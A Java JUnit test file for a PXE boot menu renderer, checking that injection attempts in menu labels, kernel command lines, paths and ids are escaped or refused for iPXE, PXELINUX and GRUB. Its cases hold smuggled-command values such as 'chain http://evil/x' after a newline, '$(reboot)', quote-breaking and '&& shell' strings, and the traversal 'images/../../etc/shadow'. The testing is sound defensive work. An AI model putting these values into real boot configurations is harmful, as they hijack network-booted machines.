package dev.pxebus.menu.render;

import static dev.pxebus.events.boot.MenuFormat.GRUB;
import static dev.pxebus.events.boot.MenuFormat.IPXE;
import static dev.pxebus.events.boot.MenuFormat.PXELINUX;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pxebus.events.boot.MenuFormat;
import dev.pxebus.menu.render.MenuModel.Entry;
import dev.pxebus.menu.render.MenuModel.LocalBoot;
import io.vertx.core.Vertx;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Catalog values that try to break out of their place, through the real templates: each is either written so that it
 * stays text (the exact line is asserted; for iPXE the line is also split the way iPXE splits it, to show that the
 * injected words are arguments, not commands) or refused with a {@link MenuRenderException} naming entry and field.
 */
class RenderInjectionTest {
  private static Vertx vertx;
  private static MenuRenderer renderer;

  @BeforeAll
  static void start() {
    vertx = Vertx.vertx();
    renderer = RenderFixtures.await(MenuRenderer.create(vertx, Optional.empty()));
  }

  @AfterAll
  static void stop() {
    RenderFixtures.await(vertx.close());
  }

  enum Field { LABEL, CMDLINE, KERNEL, ID }

  static MenuModel menu(Field field, String value) {
    String id = field == Field.ID ? value : "deb";
    Entry e = new Entry(id, field == Field.LABEL ? value : "Debian", "debian",
        field == Field.KERNEL ? value : "images/x/vmlinuz", List.of("images/x/initrd"),
        field == Field.CMDLINE ? value : "quiet");
    return new MenuModel("pxebus: test", List.of(e), id, 5, LocalBoot.EXIT, "", "test");
  }

  /** A rendered line, or "refused: <part of the message>". */
  static Arguments ok(String name, MenuFormat format, Field field, String value, String line) {
    return Arguments.of(name, format, field, value, line);
  }

  static Arguments refused(String name, MenuFormat format, Field field, String value, String message) {
    return Arguments.of(name, format, field, value, "refused: " + message);
  }

  static Stream<Arguments> cases() {
    String item = "item deb ";
    String kernel = "kernel images/x/vmlinuz initrd=initrd ";
    String menuLabel = "  MENU LABEL ";
    String append = "  APPEND initrd=images/x/initrd ";
    String linux = "  linux /images/x/vmlinuz ";
    return Stream.of(
        // line breaks and NUL: no language can hold them
        refused("newline label", IPXE, Field.LABEL, "Debian\nchain http://evil/x", "entry \"deb\" label: contains U+000A"),
        refused("newline label", PXELINUX, Field.LABEL, "Debian\nKERNEL evil", "entry \"deb\" label: contains U+000A"),
        refused("newline label", GRUB, Field.LABEL, "Debian\n}\nmenuentry evil {", "entry \"deb\" label: contains U+000A"),
        refused("newline cmdline", IPXE, Field.CMDLINE, "quiet\nshell", "entry \"deb\" cmdline: contains U+000A"),
        refused("newline cmdline", PXELINUX, Field.CMDLINE, "quiet\nLABEL evil", "entry \"deb\" cmdline: contains U+000A"),
        refused("newline cmdline", GRUB, Field.CMDLINE, "quiet\nreboot", "entry \"deb\" cmdline: contains U+000A"),
        refused("carriage return", PXELINUX, Field.LABEL, "Debian\rKERNEL evil", "entry \"deb\" label: contains U+000D"),
        refused("carriage return", IPXE, Field.CMDLINE, "quiet\rshell", "entry \"deb\" cmdline: contains U+000D"),
        refused("carriage return", GRUB, Field.CMDLINE, "quiet\rreboot", "entry \"deb\" cmdline: contains U+000D"),
        refused("NUL", IPXE, Field.LABEL, "Debian\u0000", "entry \"deb\" label: contains U+0000"),
        refused("NUL", PXELINUX, Field.CMDLINE, "quiet\u0000", "entry \"deb\" cmdline: contains U+0000"),
        refused("NUL", GRUB, Field.LABEL, "Deb\u0000ian", "entry \"deb\" label: contains U+0000"),
        // settings expansion
        refused("${net0/mac}", IPXE, Field.LABEL, "Debian ${net0/mac}", "entry \"deb\" label: \"Debian ${net0/mac}\" contains \"${\""),
        refused("${net0/mac}", IPXE, Field.CMDLINE, "BOOTIF=${net0/mac}", "entry \"deb\" cmdline: \"BOOTIF=${net0/mac}\" contains \"${\""),
        ok("${net0/mac}", PXELINUX, Field.LABEL, "Debian ${net0/mac}", menuLabel + "Debian ${net0/mac}"),
        ok("${net0/mac}", PXELINUX, Field.CMDLINE, "BOOTIF=${net0/mac}", append + "BOOTIF=${net0/mac}"),
        ok("${net0/mac}", GRUB, Field.LABEL, "Debian ${net0/mac}", "menuentry 'Debian ${net0/mac}' --id deb {"),
        ok("${net0/mac}", GRUB, Field.CMDLINE, "BOOTIF=${net0/mac}", linux + "'BOOTIF=${net0/mac}'"),
        // shell command substitution
        ok("$(reboot)", IPXE, Field.LABEL, "Debian $(reboot)", item + "Debian $(reboot)"),
        ok("$(reboot)", IPXE, Field.CMDLINE, "x=$(reboot)", kernel + "x=$(reboot) || goto failed"),
        ok("$(reboot)", PXELINUX, Field.CMDLINE, "x=$(reboot)", append + "x=$(reboot)"),
        ok("$(reboot)", GRUB, Field.LABEL, "Debian $(reboot)", "menuentry 'Debian $(reboot)' --id deb {"),
        ok("$(reboot)", GRUB, Field.CMDLINE, "x=$(reboot) $reboot", linux + "'x=$(reboot)' '$reboot'"),
        // quote breaking
        ok("'; reboot; '", IPXE, Field.LABEL, "Debian'; reboot; '", item + "Debian'; reboot; '"),
        ok("'; reboot; '", IPXE, Field.CMDLINE, "'; reboot; '", kernel + "'; reboot; ' || goto failed"),
        ok("'; reboot; '", PXELINUX, Field.LABEL, "Debian'; reboot; '", menuLabel + "Debian'; reboot; '"),
        ok("'; reboot; '", PXELINUX, Field.CMDLINE, "'; reboot; '", append + "'; reboot; '"),
        ok("'; reboot; '", GRUB, Field.LABEL, "Debian'; reboot; '",
            "menuentry 'Debian'\\''; reboot; '\\''' --id deb {"),
        refused("'; reboot; '", GRUB, Field.CMDLINE, "'; reboot; '", "entry \"deb\" cmdline: \"'; reboot; '\" contains '"),
        refused("backslash", GRUB, Field.CMDLINE, "a\\b", "entry \"deb\" cmdline: \"a\\b\" contains \\"),
        refused("unbalanced double quote", GRUB, Field.CMDLINE, "a=\"b c", "has an unbalanced '\"'"),
        ok("double quotes group", GRUB, Field.CMDLINE, "ds=\"a b;c\" quiet", linux + "'ds=a b;c' quiet"),
        // block and command separators
        ok("}", IPXE, Field.LABEL, "Debian }", item + "Debian }"),
        ok("}", GRUB, Field.LABEL, "Debian } menuentry evil {", "menuentry 'Debian } menuentry evil {' --id deb {"),
        ok("}", GRUB, Field.CMDLINE, "quiet } reboot {", linux + "quiet '}' reboot '{'"),
        ok("}", PXELINUX, Field.LABEL, "Debian }", menuLabel + "Debian }"),
        ok("&& shell", IPXE, Field.LABEL, "Debian && shell", item + "Debian ${}&& shell"),
        ok("&& shell", IPXE, Field.CMDLINE, "quiet && shell", kernel + "quiet ${}&& shell || goto failed"),
        ok("&& shell", PXELINUX, Field.CMDLINE, "quiet && shell", append + "quiet && shell"),
        ok("&& shell", GRUB, Field.CMDLINE, "quiet && shell", linux + "quiet '&&' shell"),
        ok("|| shell", IPXE, Field.LABEL, "Debian || shell", item + "Debian ${}|| shell"),
        ok("|| shell", IPXE, Field.CMDLINE, "quiet || shell", kernel + "quiet ${}|| shell || goto failed"),
        ok("|| shell", GRUB, Field.LABEL, "Debian || shell", "menuentry 'Debian || shell' --id deb {"),
        ok("; shell", IPXE, Field.CMDLINE, "quiet ; shell", kernel + "quiet ${}; shell || goto failed"),
        ok("; shell", GRUB, Field.CMDLINE, "quiet ; shell", linux + "quiet ';' shell"),
        ok("#", IPXE, Field.LABEL, "Debian #1", item + "Debian ${}#1"),
        ok("#", IPXE, Field.CMDLINE, "quiet #rest", kernel + "quiet ${}#rest || goto failed"),
        ok("#", PXELINUX, Field.LABEL, "Debian #1", menuLabel + "Debian #1"),
        ok("#", GRUB, Field.CMDLINE, "quiet #rest", linux + "quiet '#rest'"),
        ok("#", GRUB, Field.LABEL, "Debian #1", "menuentry 'Debian #1' --id deb {"),
        // pxelinux hotkey marker
        refused("^", PXELINUX, Field.LABEL, "^Debian", "entry \"deb\" label: \"^Debian\" contains '^'"),
        ok("^", PXELINUX, Field.CMDLINE, "a^b", append + "a^b"),
        ok("^", IPXE, Field.LABEL, "^Debian", item + "^Debian"),
        ok("^", GRUB, Field.LABEL, "^Debian", "menuentry '^Debian' --id deb {"),
        // tabs become spaces
        ok("tab", IPXE, Field.LABEL, "Debian\t12", item + "Debian 12"),
        ok("tab", PXELINUX, Field.LABEL, "Debian\t12", menuLabel + "Debian 12"),
        ok("tab", GRUB, Field.LABEL, "Debian\t12", "menuentry 'Debian 12' --id deb {"),
        ok("tab", IPXE, Field.CMDLINE, "quiet\tsplash", kernel + "quiet splash || goto failed"),
        ok("tab", GRUB, Field.CMDLINE, "quiet\tsplash", linux + "quiet splash"),
        // non-ASCII: text is UTF-8; bidi controls are refused
        ok("é", IPXE, Field.LABEL, "Débian", item + "Débian"),
        ok("é", PXELINUX, Field.LABEL, "Débian", menuLabel + "Débian"),
        ok("é", GRUB, Field.LABEL, "Débian", "menuentry 'Débian' --id deb {"),
        ok("é", GRUB, Field.CMDLINE, "name=é", linux + "'name=é'"),
        refused("U+202E", IPXE, Field.LABEL, "Debian \u202Egnp.exe", "entry \"deb\" label: contains U+202E RIGHT-TO-LEFT OVERRIDE"),
        refused("U+202E", PXELINUX, Field.LABEL, "Debian \u202E", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        refused("U+202E", GRUB, Field.LABEL, "Debian \u202E", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        // option-looking labels
        refused("leading dash", GRUB, Field.LABEL, "--unrestricted", "entry \"deb\" label: \"--unrestricted\" starts with '-'"),
        ok("leading dash", IPXE, Field.LABEL, "--gap", item + "--gap"),
        // paths and ids
        refused("..", IPXE, Field.KERNEL, "images/../../etc/shadow", "entry \"deb\" kernel: \"images/../../etc/shadow\" has a '..' segment"),
        refused("..", PXELINUX, Field.KERNEL, "../vmlinuz", "entry \"deb\" kernel"),
        refused("..", GRUB, Field.KERNEL, "images/..", "entry \"deb\" kernel"),
        refused("space in path", IPXE, Field.KERNEL, "images/my image/vmlinuz", "entry \"deb\" kernel: \"images/my image/vmlinuz\" contains a space"),
        refused("space in path", GRUB, Field.KERNEL, "images/my image/vmlinuz", "contains a space"),
        refused("absolute path", PXELINUX, Field.KERNEL, "/vmlinuz", "starts with '/'"),
        refused("comma in path", PXELINUX, Field.KERNEL, "images/a,b", "contains U+002C COMMA"),
        refused("id with a space", IPXE, Field.ID, "my image", "entry 1 id: \"my image\" is not an id"),
        refused("id with a space", PXELINUX, Field.ID, "my image", "entry 1 id: \"my image\" is not an id"),
        refused("id with a space", GRUB, Field.ID, "my image", "entry 1 id: \"my image\" is not an id"),
        refused("id local", GRUB, Field.ID, "local", "entry 1 id: \"local\" is reserved"),
        refused("id of an iPXE label", IPXE, Field.ID, "failed", "entry 1 id: \"failed\" is a label of the iPXE script"));
  }

  @ParameterizedTest(name = "{1} {2} {0}")
  @MethodSource("cases")
  void isWrittenAsTextOrRefused(String name, MenuFormat format, Field field, String value, String expected) {
    MenuModel model = menu(field, value);
    if (expected.startsWith("refused: ")) {
      Throwable e = RenderFixtures.failure(renderer.render(format, model));
      assertInstanceOf(MenuRenderException.class, e);
      assertTrue(e.getMessage().contains(expected.substring("refused: ".length())), e.getMessage());
      return;
    }
    String text = RenderFixtures.await(renderer.render(format, model)).toString(StandardCharsets.UTF_8);
    assertTrue(text.contains("\n" + expected + "\n"), () -> "no line\n" + expected + "\nin\n" + text);
    if (format == IPXE) assertIpxeSeesOneCommand(expected, field, value);
  }

  /** What iPXE runs for the line: the item or kernel command (then {@code goto failed}), never an injected one. */
  private static void assertIpxeSeesOneCommand(String line, Field field, String value) {
    List<List<String>> commands = ipxeCommands(line);
    List<String> words = Arrays.stream(value.replace('\t', ' ').strip().split(" +")).toList();
    if (field == Field.LABEL) {
      assertEquals(1, commands.size(), commands.toString());
      List<String> expected = new ArrayList<>(List.of("item", "deb"));
      expected.addAll(words);
      assertEquals(expected, commands.get(0));
    } else {
      assertEquals(List.of("goto", "failed"), commands.get(1), commands.toString());
      assertEquals(2, commands.size(), commands.toString());
      List<String> expected = new ArrayList<>(List.of("kernel", "images/x/vmlinuz", "initrd=initrd"));
      expected.addAll(words);
      assertEquals(expected, commands.get(0));
    }
  }

  /**
   * A line split as iPXE's {@code system()} splits it (src/core/exec.c): words at whitespace; {@code ||}, {@code &&}
   * and {@code ;} end a command, a word starting with {@code #} ends the line; then settings expand ({@code ${}}
   * being an empty name, to nothing). Any other <code>${</code> left would be a live expansion.
   */
  static List<List<String>> ipxeCommands(String line) {
    List<List<String>> commands = new ArrayList<>();
    List<String> command = new ArrayList<>();
    for (String word : line.trim().split("[ \t]+")) {
      if (word.startsWith("#")) break;
      if (word.equals("||") || word.equals("&&") || word.equals(";")) {
        commands.add(command);
        command = new ArrayList<>();
        continue;
      }
      String expanded = word.replace("${}", "");
      assertFalse(expanded.contains("${"), "live expansion in " + word);
      command.add(expanded);
    }
    commands.add(command);
    return commands;
  }

  @Test
  void aTitleThatBreaksTheLineIsRefused() {
    MenuModel m = new MenuModel("pxebus\nchain http://evil/x", List.of(), MenuModel.LOCAL_ID, 5, LocalBoot.EXIT, "",
        "");
    for (MenuFormat f : MenuFormat.values()) {
      Throwable e = RenderFixtures.failure(renderer.render(f, m));
      assertTrue(e.getMessage().startsWith("menu title: contains U+000A"), f + ": " + e.getMessage());
    }
  }

  @Test
  void anIpxeTitleThatLooksLikeAnOptionIsRefused() {
    MenuModel m = new MenuModel("--delete", List.of(), MenuModel.LOCAL_ID, 5, LocalBoot.EXIT, "", "");
    Throwable e = RenderFixtures.failure(renderer.render(IPXE, m));
    assertEquals("menu title: \"--delete\" starts with '-', which iPXE's menu command would read as an option",
        e.getMessage());
  }

  @Test
  void aFileBaseThatIsNotAPlainUrlIsRefused() {
    for (String base : List.of("http://10.0.0.5/ || shell/", "http://10.0.0.5:8069", "ftp://10.0.0.5/",
        "http://10.0.0.5/${net0/ip}/")) {
      MenuModel m = new MenuModel("t", List.of(), MenuModel.LOCAL_ID, 5, LocalBoot.EXIT, base, "");
      Throwable e = RenderFixtures.failure(renderer.render(IPXE, m));
      assertTrue(e.getMessage().startsWith("fileBase: "), e.getMessage());
    }
  }

  @Test
  void aPxelinuxLineLongerThanSyslinuxReadsIsRefused() {
    Throwable value = RenderFixtures.failure(renderer.render(PXELINUX, menu(Field.CMDLINE, "x=" + "a".repeat(4000))));
    assertEquals("entry \"deb\" cmdline: is longer than 4000 bytes: pxelinux would read the rest of the line as a "
        + "directive of its own", value.getMessage());
    String dir = "images/" + "d".repeat(30) + "/";
    MenuModel m = new MenuModel("t", List.of(new Entry("deb", "Debian", "debian", dir + "vmlinuz",
        List.of(dir + "initrd-1", dir + "initrd-2", dir + "initrd-3"), "x=" + "a".repeat(3980))), "deb", 5,
        LocalBoot.EXIT, "", "");
    Throwable line = RenderFixtures.failure(renderer.render(PXELINUX, m));
    assertTrue(line.getMessage().startsWith("entry \"deb\" cmdline: makes an APPEND line longer than 4095 bytes"),
        line.getMessage());
  }

  @Test
  void twoInitrdsOfOneNameAreRefusedForIpxe() {
    MenuModel m = new MenuModel("t", List.of(new Entry("deb", "Debian", "debian", "a/vmlinuz",
        List.of("a/initrd.gz", "b/initrd.gz"), "")), "deb", 5, LocalBoot.EXIT, "", "");
    Throwable e = RenderFixtures.failure(renderer.render(IPXE, m));
    assertTrue(e.getMessage().startsWith("entry \"deb\" initrds: two initrds are named \"initrd.gz\""),
        e.getMessage());
  }
}
